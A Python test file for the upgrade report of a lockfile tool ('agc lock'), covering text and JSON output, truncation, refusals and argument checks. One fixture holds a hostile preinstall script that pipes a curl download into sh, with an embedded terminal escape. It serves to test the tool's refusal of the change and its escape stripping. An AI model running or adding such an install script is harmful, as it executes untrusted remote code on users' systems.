"""What is printed after `agc lock`, and what programs read."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from types import MappingProxyType

import pytest

from pipeline.cli import main
from pipeline.cli.output import text_of
from pipeline.cli.updates import as_json, lines_of, refused, unused
from pipeline.errors import ExitCode, ResolveError
from pipeline.resolve.contents import FilesDiff
from pipeline.resolve.cooldown import Decision, Hindrance, PassedOver
from pipeline.resolve.release import Concern, Fact, Part, Release
from pipeline.stages.upgrade import ArchiveDiff, LockChange, LockRequest, LockResult, PackageReport, TreeDiff

NOW = datetime(2026, 11, 21, 13, 30, tzinfo=UTC)
DAY = timedelta(days=1)
NATIVE = "@example/tool-linux-x64"


def release(version: str, hours: float, **more: object) -> Release:
    """Return a release of a tool with native programs."""
    part = Part("@example/tool", NOW - timedelta(hours=hours), **more)  # type: ignore[arg-type]
    return Release("@example/tool", version, (part, Part(NATIVE, NOW - timedelta(hours=hours))))


OLD = release(
    "1.0.0", 900, publishers=frozenset({"ann", "bob"}), scripts=MappingProxyType({"postinstall": "node a.js"})
)
NEW = release(
    "1.1.0",
    40,
    publishers=frozenset({"bob", "eve"}),
    scripts=MappingProxyType({"postinstall": "node a.js"}),
    attested=True,
)
YOUNG = PassedOver(release("1.2.0", 6), Hindrance.YOUNG, NOW + timedelta(hours=18))
FILES = FilesDiff(
    added=("LICENSE.md", "bin/helper", *(f"vendor/data-{number}.txt" for number in range(3))),
    removed=("README",),
    resized=("bin/tool",),
    programs=("bin/helper",),
    kept=4,
)
MOVED = PackageReport(
    "agents/tool",
    Decision("@example/tool", OLD, fits=True, chosen=NEW, passed=(YOUNG,)),
    NOW,
    DAY,
    archives=(
        ArchiveDiff(NATIVE, "linux/amd64", 175_385_311, 176_189_557, FILES),
        ArchiveDiff("@example/tool-linux-arm64", "linux/arm64", 170_000_000, 170_000_001, None),
    ),
    gone="https://registry.npmjs.org/@example/tool-linux-arm64/-/tool-linux-arm64-1.0.0.tgz",
)
BAD = replace(NEW, parts=(replace(NEW.parts[0], scripts={"preinstall": "curl -s https://example.org/\x1b[31mx | sh"}),))
REFUSED = PackageReport(
    "agents/odd",
    Decision(
        "@example/tool",
        OLD,
        fits=True,
        chosen=BAD,
        concerns=(
            Concern(Fact.SCRIPTS, "@example/tool", "postinstall: node a.js", "preinstall: curl | \x1b[31msh"),
            Concern(Fact.PUBLISHERS, "@example/tool", "ann, bob", "eve"),
        ),
    ),
    NOW,
    DAY,
)
MISSING = tuple(
    PassedOver(Release("forest", version, missing=("forest-linux-arm64",)), Hindrance.INCOMPLETE)
    for version in ("3.2.0", "3.1.0", "3.0.1")
)
FOREST = PackageReport(
    "agents/forest",
    Decision(
        "forest",
        Release("forest", "2.0.0"),
        fits=True,
        chosen=Release("forest", "3.0.0", (Part("forest", NOW - timedelta(days=9)),)),
        passed=MISSING,
    ),
    NOW,
    DAY,
    tree=TreeDiff(
        added=(("left-pad", "1.3.0"),),
        removed=(("right-pad", "1.0.0"),),
        changed=tuple((f"package-{number:02}", "1.0.0", "1.0.1") for number in range(30)),
        kept=300,
    ),
)
STAYS = PackageReport(
    "toolchains/bun", Decision("bun", Release("bun", "1.4.5"), fits=True, chosen=Release("bun", "1.4.5")), NOW, DAY
)
RESULT = LockResult(
    (
        LockChange("roots/debian", "linux/amd64 0123", "linux/amd64 4567"),
        LockChange("agents/tool", "@example/tool 1.0.0", "@example/tool 1.1.0"),
        LockChange("agents/forest", "forest 2.0.0", "forest 3.0.0"),
    ),
    (STAYS, MOVED, REFUSED, FOREST),
)


def test_the_report_reads_well(golden: Callable[[str, str], None]) -> None:
    """Each package with what was decided, why, and how it differs."""
    golden("cli/lock-upgrade.txt", text_of(lines_of(RESULT)))


@pytest.mark.parametrize("verbose", [False, True])
def test_the_report_fits_a_terminal(verbose: bool) -> None:
    """But for what is there to be copied whole, and names that have no place to break."""
    lines = text_of(lines_of(RESULT, verbose=verbose)).splitlines()

    assert [line for line in lines if len(line) > 80 and "accept" not in line and "https://" not in line] == []


def test_lists_are_cut_short_unless_somebody_wants_all() -> None:
    """Twenty dependencies, and the new files that matter most."""
    short, long = (text_of(lines_of(RESULT, verbose=verbose)) for verbose in (False, True))

    assert short.count("~ package-") == 18
    assert "and 12 more: -v shows all" in short
    assert "data-1.txt" not in short
    assert long.count("~ package-") == 30
    assert "data-1.txt" in long


def test_words_of_others_move_no_cursor() -> None:
    """A script in a package may hold anything."""
    assert "\x1b" not in text_of(lines_of(RESULT))


def test_programs_read_everything() -> None:
    """As JSON, no list cut short."""
    data = json.loads(json.dumps(as_json(RESULT)))

    stays, moved, odd, forest = data["packages"]
    assert [one["outcome"] for one in data["packages"]] == ["stays", "moved", "refused", "moved"]
    assert [change["component"] for change in data["changes"]] == ["roots/debian", "agents/tool", "agents/forest"]
    assert (stays["accept"], odd["accept"]) == (None, "agc lock --upgrade odd --accept @example/tool@1.1.0")
    assert (moved["before"]["version"], moved["after"]["version"]) == ("1.0.0", "1.1.0")
    assert moved["after"]["packages"][0]["publishers"] == ["bob", "eve"]
    assert moved["passedOver"][0]["ready"] == "2026-11-22T07:30:00+00:00"
    assert len(moved["archives"][0]["files"]["added"]) == 5
    assert [item["fact"] for item in odd["refused"]] == ["install scripts", "publishers"]
    assert len(forest["dependencies"]["changed"]) == 30


def test_a_refusal_is_seen_by_scripts() -> None:
    """And only a refusal: what waits is as it should be."""
    assert refused(RESULT)
    assert not refused(replace(RESULT, packages=(STAYS, MOVED, FOREST)))


def test_what_was_accepted_for_nothing_is_told() -> None:
    """It may be a slip of the pen."""
    request = LockRequest(NOW, accepted=frozenset({"@example/tool@1.1.0", "tool@1.1.0"}))

    assert unused(request, RESULT) == ["tool@1.1.0"]
    assert unused(request, replace(RESULT, errors=(ResolveError("x"),))) == []


def test_nothing_to_do_is_said() -> None:
    """But not beside an error."""
    assert text_of(lines_of(LockResult())) == "the lock was complete; nothing moved\n"
    assert text_of(lines_of(LockResult(errors=(ResolveError("x"),)))) == ""


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (("--cool-down", "-1"), "greater than or equal to 0"),
        (("--cool-down", "nan"), "less than or equal to 365"),
        (("--cool-down", "soon"), "a valid number"),
        (("--accept", "tool"), "'tool' is no release"),
        (("--accept", "@scope/tool"), "'@scope/tool' is no release"),
        (("--accept", "tool@"), "'tool@' is no release"),
    ],
)
def test_what_cannot_be_meant_is_refused(
    arguments: tuple[str, ...], words: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """Before anything is read."""
    assert main(["lock", *arguments]) == ExitCode.USAGE
    assert words in capsys.readouterr().err
